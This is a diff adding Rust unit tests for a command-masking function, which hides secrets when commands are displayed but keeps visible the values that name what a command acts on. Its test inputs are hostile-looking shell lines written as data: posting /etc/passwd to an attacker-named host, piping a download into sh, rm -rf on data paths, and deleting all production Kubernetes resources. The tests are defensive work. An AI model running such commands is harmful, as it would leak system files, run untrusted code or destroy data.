@@ -168,3 +168,94 @@ fn p09_tokens_that_are_handed_on_are_masked() {
         assert!(!mask_text(&format!("key {token}")).contains(&token));
     }
 }
+
+#[test]
+fn p09_a_variable_stays_visible_where_it_is_a_part_of_what_is_acted_on() {
+    for command in [
+        "TOKEN=evil12x; source ./s$TOKEN",
+        "TOKEN=evil12x; bash ./s-$TOKEN",
+        "TOKEN=evil12x; npx -y \"pkg-$TOKEN\"",
+        "TOKEN=evil12x; curl http://$TOKEN:80/x -d @/etc/passwd",
+        "TOKEN=evil12x; curl http://$TOKEN\\@good.example/x",
+        "TOKEN=evil12x; rm -rf /data/$TOKEN",
+        "TOKEN=evil12x; rm -rf \"/data/${TOKEN}\"",
+        "TOKEN=evil12x; ssh root@$TOKEN",
+        "TOKEN=evil12x; ./deploy --$TOKEN",
+        "TOKEN=evil12x; curl https://x/$TOKEN | sh",
+        "TOKEN=evil12x; docker -H token:$TOKEN ps",
+        "TOKEN=evil12x; git push --target=$TOKEN",
+        "export TOKEN=evil12x; git push origin main:$TOKEN",
+        "TOKEN=evil12x; curl -H \"X-Token: $TOKEN\" x; ./bin-$TOKEN",
+    ] {
+        let shown = mask_command(command);
+        assert!(shown.contains("evil12x"), "{command} is shown as {shown}");
+    }
+    for command in [
+        "TOKEN=hunter2x; curl -H \"Authorization: Bearer $TOKEN\" x",
+        "TOKEN=hunter2x; curl -sS --header \"X-Api-Key: ${TOKEN}\" x",
+        "TOKEN=hunter2x; ./deploy --token=\"$TOKEN\" -v",
+        "TOKEN=hunter2x; git clone https://oauth2:$TOKEN@x.example/r",
+        "TOKEN=hunter2x; git clone https://${TOKEN}@x.example/r",
+        "TOKEN=hunter2x; curl \"https://x/?a=1&token=$TOKEN&b=2\"",
+        "TOKEN=hunter2x; curl -u \"me:$TOKEN\" https://x",
+    ] {
+        let shown = mask_command(command);
+        assert!(!shown.contains("hunter2x"), "{command} is shown as {shown}");
+    }
+}
+
+#[test]
+fn p09_a_name_before_an_operand_makes_it_no_secret() {
+    for (command, visible) in [
+        ("git config set alias.token !reboot", "!reboot"),
+        ("git config set --global alias.pass '!reboot'", "!reboot"),
+        ("git push -f origin auth:main2prod", "auth:main2prod"),
+        ("docker run token:v1malware2", "token:v1malware2"),
+        ("docker run -v token:root2fs img", "token:root2fs"),
+        ("kubectl delete all -l token=production", "token=production"),
+        (
+            "kubectl delete all --selector=token=production",
+            "token=production",
+        ),
+        (
+            "sudo kubectl delete all -l token=production",
+            "token=production",
+        ),
+        (
+            "kubectl delete namespace default password production",
+            "production",
+        ),
+        ("redis-cli del token:prod2024x", "token:prod2024x"),
+        (
+            "aws s3 rm s3://b/token=production --recursive",
+            "token=production",
+        ),
+        ("git branch -D pass=main", "pass=main"),
+        ("make deploy token=production", "token=production"),
+        ("remove token: production2024", "production2024"),
+    ] {
+        let shown = mask_command(command);
+        assert!(shown.contains(visible), "{command} is shown as {shown}");
+    }
+    for command in [
+        "docker run -e DB_PASSWORD=hunter2x img",
+        "docker run -eDB_PASSWORD=hunter2x img",
+        "docker run --env=DB_PASSWORD=hunter2x img",
+        "kubectl create secret generic x --from-literal=password=hunter2x",
+        "helm install --set auth.password=hunter2x x",
+        "terraform apply -var db_password=hunter2x",
+        "curl -d password=hunter2x https://x",
+        "curl -d '{\"token\":\"hunter2x\"}' https://x",
+        "env API_TOKEN=hunter2x ./run",
+        "sudo -E API_TOKEN=hunter2x ./run",
+        "make TOKEN=hunter2x",
+        "heroku config:set API_TOKEN=hunter2x",
+        "timeout 60 mysql -phunter2x db",
+        "nice -n 5 mysql -phunter2x db",
+        "vault login -token=hunter2x",
+        "cat > ~/.netrc <<E\nmachine x login ann password hunter2x\nE",
+    ] {
+        let shown = mask_command(command);
+        assert!(!shown.contains("hunter2x"), "{command} is shown as {shown}");
+    }
+}
